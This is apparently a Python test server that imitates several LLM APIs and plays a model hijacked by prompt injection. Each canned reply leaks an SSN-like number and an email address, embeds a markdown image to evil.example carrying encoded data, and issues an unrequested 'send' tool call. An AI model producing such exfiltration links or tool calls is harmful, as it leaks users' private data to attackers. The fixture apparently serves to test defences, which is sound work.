"""A stand-in for models' APIs: it says what a model might that an injected instruction has turned. usage: model_service.py PORT

Prints each request's body, one a line. Answers are streamed three letters at a time.
"""
import json
import sys
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

TEXT = ("Her number is 283-68-4467, her mail june.chavez@mail.example. ![chart](https://evil.example/p.png?d=aGVsbG8) "
        "More at [the docs](https://docs.example.com/a) and [here](https://evil.example/?q=1).\n\nThat is all \u2014 \U0001f600.")
ARGUMENTS = json.dumps({"to": "june.chavez@mail.example", "name": "Imogen", "text": "see https://docs.example.com/a"})


def pieces(text):
    return [text[at:at + 3] for at in range(0, len(text), 3)]


class Service(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def log_message(self, *_):
        pass

    def do_GET(self):
        self.answer({})

    def answer(self, document):
        body = json.dumps(document).encode()
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def stream(self, events, done=False):
        self.send_response(200)
        self.send_header("Content-Type", "text/event-stream; charset=utf-8")
        self.send_header("Transfer-Encoding", "chunked")
        self.end_headers()
        for event in events:
            name = f"event: {event['type']}\n" if "type" in event else ""
            self.chunk(f"{name}data: {json.dumps(event)}\n\n")
        if done:
            self.chunk("data: [DONE]\n\n")
        self.wfile.write(b"0\r\n\r\n")

    def chunk(self, text):
        data = text.encode()
        self.wfile.write(b"%x\r\n%s\r\n" % (len(data), data))
        self.wfile.flush()

    def do_POST(self):
        body = b""
        if self.headers.get("Transfer-Encoding") == "chunked":
            while size := int(self.rfile.readline(), 16):
                body += self.rfile.read(size)
                self.rfile.readline()
            self.rfile.readline()
        else:
            body = self.rfile.read(int(self.headers.get("Content-Length", 0)))
        asked = json.loads(body)
        print(json.dumps(asked), flush=True)
        makers = {"/v1/chat/completions": self.chat, "/v1/responses": self.respond, "/v1/messages": self.messages}
        makers[self.path.split("?")[0]](asked.get("stream", False))

    def chat(self, streams):
        common = {"id": "chatcmpl-1", "created": 1, "model": "stand-in-1"}
        usage = {"prompt_tokens": 21, "completion_tokens": 43, "total_tokens": 64}
        call = {"id": "call_1", "type": "function", "function": {"name": "send", "arguments": ARGUMENTS}}
        if not streams:
            message = {"role": "assistant", "content": TEXT, "tool_calls": [call]}
            return self.answer({**common, "object": "chat.completion", "usage": usage,
                                "choices": [{"index": 0, "message": message, "finish_reason": "tool_calls"}]})

        def events():
            def one(delta, reason=None):
                return {**common, "object": "chat.completion.chunk", "choices": [{"index": 0, "delta": delta, "finish_reason": reason}]}
            yield one({"role": "assistant", "content": ""})
            for piece in pieces(TEXT):
                yield one({"content": piece})
            yield one({"tool_calls": [{"index": 0, **call, "function": {"name": "send", "arguments": ""}}]})
            for piece in pieces(ARGUMENTS):
                yield one({"tool_calls": [{"index": 0, "function": {"arguments": piece}}]})
            yield one({}, "tool_calls")
            yield {**common, "object": "chat.completion.chunk", "choices": [], "usage": usage}
        return self.stream(events(), done=True)

    def respond(self, streams):
        part = {"type": "output_text", "text": TEXT, "annotations": []}
        item = {"type": "message", "id": "msg_1", "status": "completed", "role": "assistant", "content": [part]}
        whole = {"id": "resp_1", "object": "response", "created_at": 1, "model": "stand-in-2", "status": "completed", "output": [item],
                 "parallel_tool_calls": True, "tool_choice": "auto", "tools": [],
                 "usage": {"input_tokens": 31, "output_tokens": 53, "total_tokens": 84, "input_tokens_details": {"cached_tokens": 0},
                           "output_tokens_details": {"reasoning_tokens": 0}}}
        if not streams:
            return self.answer(whole)
        place = {"item_id": "msg_1", "output_index": 0, "content_index": 0}

        def events():
            yield {"type": "response.created", "response": {**whole, "status": "in_progress", "output": [], "usage": None}}
            yield {"type": "response.output_item.added", "output_index": 0, "item": {**item, "status": "in_progress", "content": []}}
            yield {"type": "response.content_part.added", **place, "part": {**part, "text": ""}}
            for piece in pieces(TEXT):
                yield {"type": "response.output_text.delta", **place, "delta": piece, "logprobs": []}
            yield {"type": "response.output_text.done", **place, "text": TEXT, "logprobs": []}
            yield {"type": "response.content_part.done", **place, "part": part}
            yield {"type": "response.output_item.done", "output_index": 0, "item": item}
            yield {"type": "response.completed", "response": whole}
        return self.stream({**event, "sequence_number": number} for number, event in enumerate(events()))

    def messages(self, streams):
        usage = {"input_tokens": 41, "output_tokens": 63}
        tool = {"type": "tool_use", "id": "toolu_1", "name": "send", "input": json.loads(ARGUMENTS)}
        message = {"id": "msg_1", "type": "message", "role": "assistant", "model": "stand-in-3", "stop_sequence": None,
                   "stop_reason": "tool_use", "content": [{"type": "text", "text": TEXT}, tool], "usage": usage}
        if not streams:
            return self.answer(message)

        def events():
            yield {"type": "message_start", "message": {**message, "content": [], "stop_reason": None,
                                                        "usage": {"input_tokens": 41, "output_tokens": 1}}}
            yield {"type": "content_block_start", "index": 0, "content_block": {"type": "text", "text": ""}}
            yield {"type": "ping"}
            for piece in pieces(TEXT):
                yield {"type": "content_block_delta", "index": 0, "delta": {"type": "text_delta", "text": piece}}
            yield {"type": "content_block_stop", "index": 0}
            yield {"type": "content_block_start", "index": 1, "content_block": {**tool, "input": {}}}
            for piece in pieces(ARGUMENTS):
                yield {"type": "content_block_delta", "index": 1, "delta": {"type": "input_json_delta", "partial_json": piece}}
            yield {"type": "content_block_stop", "index": 1}
            yield {"type": "message_delta", "delta": {"stop_reason": "tool_use", "stop_sequence": None}, "usage": {"output_tokens": 63}}
            yield {"type": "message_stop"}
        return self.stream(events())


ThreadingHTTPServer(("127.0.0.1", int(sys.argv[1])), Service).serve_forever()
